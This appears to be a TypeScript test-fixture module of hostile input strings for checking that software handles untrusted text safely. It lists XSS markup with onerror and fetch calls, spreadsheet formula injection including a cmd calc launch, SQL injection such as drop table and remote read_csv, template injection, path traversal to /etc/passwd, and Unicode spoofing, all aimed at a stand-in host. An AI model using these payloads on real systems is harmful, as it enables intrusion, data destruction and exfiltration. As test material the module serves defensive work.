/** A place that no text may reach. No server has this name. */
const NOWHERE = 'http://nowhere.invalid';

/** What texts try, one list for each way in. */
type Attempt =
  | 'html'
  | 'formula'
  | 'sql'
  | 'expression'
  | 'style'
  | 'link'
  | 'order'
  | 'name'
  | 'number'
  | 'shape';

/**
 * Takes where planted code should call, without a slash at its end; gives the texts by what they try. Each is one value: a heading, a
 * word, a note, a name. Those that call ask for a path of `foreign` that starts with `/planted`.
 */
export function hostileTexts(
  foreign: string = NOWHERE,
): Readonly<Record<Attempt, readonly string[]>> {
  const url = `${foreign}/planted`;
  const bare = url.replace(/^https?:/, '');
  return {
    html: markup(url, bare),
    formula: formulas(url),
    sql: statements(url),
    expression: expressions(url),
    style: [
      `";background:url(${url}/style)`,
      `</style><style>@import '${url}/import'</style>`,
      `red;}*{background-image:url(${url}/rule)}`,
      `x{}@font-face{font-family:a;src:url(${url}/font)}`,
    ],
    link: [
      `[read](${url}/markdown)`,
      `![picture](${url}/picture)`,
      `${url}/plain`,
      'javascript:globalThis.planted=true',
      'data:text/html,<script>globalThis.planted=true</script>',
      '//nowhere.invalid/planted',
    ],
    order: ORDER,
    name: NAMES,
    number: NUMBERS,
    shape: SHAPES,
  };
}

/** Takes where planted code should call; gives every text. */
export function everyHostileText(foreign?: string): string[] {
  return Object.values(hostileTexts(foreign)).flat();
}

function markup(url: string, bare: string): string[] {
  return [
    `<img src="${bare}/image">`,
    `<img src=x onerror="globalThis.planted=true;fetch('${url}/onerror')">`,
    `<script src="${url}/script"></script>`,
    '<script>globalThis.planted=true</script>',
    `"><svg onload="globalThis.planted=true"><use href="${url}/use#a"/></svg>`,
    `<iframe src="${url}/frame"></iframe>`,
    `<link rel=preload as=image href="${url}/preload"><link rel=dns-prefetch href="${bare}">`,
    `<meta http-equiv=refresh content="0;url=${url}/refresh">`,
    `<form action="${url}/form"><button>send</button></form>`,
    `<a href="${url}/ping" ping="${url}/ping">here</a>`,
    `</title></textarea></script><img src="${url}/closing">`,
    `<base href="${url}/">`,
    '&lt;img src=x&gt;&#x3c;b&#x3e;&amp;',
    '<!--',
    ']]>',
    '{{constructor.constructor("globalThis.planted=true")()}}',
    '${globalThis.planted=true}',
    `<details open ontoggle="globalThis.planted=true">x</details>`,
  ];
}

function formulas(url: string): string[] {
  const call = `WEBSERVICE("${url}/formula")`;
  return [
    `=${call}`,
    `+${call}`,
    `-${call}`,
    `@SUM(1+1)`,
    `=HYPERLINK("${url}/hyperlink","Click")`,
    `=IMAGE("${url}/image")`,
    `=cmd|'/C calc'!A0`,
    `\t=${call}`,
    `\r=${call}`,
    `\n=${call}`,
    ` =${call}`,
    `"=${call}`,
    `'=${call}`,
    `;=${call}`,
    `,=${call}`,
    `\uFF1D${call}`,
    `\uFF0B1`,
    `\uFF0D1`,
    `\uFF20SUM(1)`,
    `\u200B=${call}`,
    `\uFEFF=${call}`,
    `\u202E=${call}`,
    '=1+1',
    '-1',
    '+1',
    '@',
    '=',
  ];
}

function statements(url: string): string[] {
  return [
    `'; drop table ssd_person; --`,
    `"; drop table ssd_person; --`,
    `' or 1=1 --`,
    `'; copy (select 1) to '${url}/copy'; --`,
    `' union select * from read_csv('${url}/read_csv') --`,
    `"; attach '${url}/attach' as x; --`,
    `'; install httpfs; load httpfs; --`,
    `'; set enable_external_access = true; --`,
    `x' || (select content from read_text('${url}/read_text')) || '`,
    `"quoted""name"`,
    `''`,
    `$1`,
    `?`,
    `/* `,
    `%s%n%d`,
    `\\'; --`,
    'select',
    'table',
    'rowid',
  ];
}

function expressions(url: string): string[] {
  return [
    `{"signal":"(globalThis.planted=true)"}`,
    `datum`,
    `datum.constructor.constructor('globalThis.planted=true')()`,
    `datum['x']`,
    `a.b[0]`,
    `a\\.b`,
    `@count`,
    `{"expr":"datum.x"}`,
    `{"url":"${url}/vega"}`,
    `image://${url}/mark`,
    `signal(1)`,
    `width`,
  ];
}

/** What turns the order of letters around, and what nobody sees. */
const ORDER = [
  '\u202Efdp.exe',
  'Leeds\u202E sdeeL',
  '\u2066isolated',
  '\u2069\u2069\u2069closed',
  '\u202Dleft\u202C',
  'a\u200Bb',
  'a\u200Cb\u200Dc',
  '\u200Emark\u200F',
  'a\uFEFFb',
  '\uFEFFstart',
  '\u00ADsoft',
  '\u2028line\u2029paragraph',
  '\u061Cletter',
  'referr\u0430l',
  'e\u0301'.repeat(3),
  'Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032F\u031E\u0320\u034Dalgo',
  '\u05D0\u05D1\u05D2 12 \u0627\u0628',
] as const;

/** Names of files, columns and members that programs take for something else. */
const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
  'then',
  'length',
  '../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  'C:\\boot.ini',
  'file:///etc/passwd',
  'CON',
  'nul.csv',
  'AUX.txt',
  'COM1',
  'name\0.csv',
  '.',
  '..',
  ' ',
  'a/b\\c:d*e?f"g<h>i|j',
  'trailing. ',
  '#hash?query=1&b=%00%2e%2e',
] as const;

/** Numbers, as text, that are none or too large to be counted. */
const NUMBERS = [
  '1e999',
  '-1e999',
  '1e-400',
  'NaN',
  'Infinity',
  '-0',
  '0x10',
  '1_000',
  '9007199254740993',
  '99999999999999999999999999',
  '1,234',
  '1.0000000000000001',
  '٣',
  '１２',
  '0'.repeat(400),
  '9'.repeat(400),
] as const;

/** Odd as text, whatever it says: empty, long, broken, out of any alphabet. */
const SHAPES = [
  '',
  ' ',
  '\0',
  '\u0001\u0008\u001F\u007F',
  '\uD800',
  '\uDC00x',
  'x\uDBFF',
  '\uFFFE\uFFFF',
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}',
  '"',
  '""',
  "'",
  ',',
  ';',
  '\t',
  '\r\n',
  'a"b,c\nd',
  '[',
  '{',
  '[]',
  'null',
  'true',
  'undefined',
  'x'.repeat(5000),
  '\uFDFD'.repeat(50),
] as const;
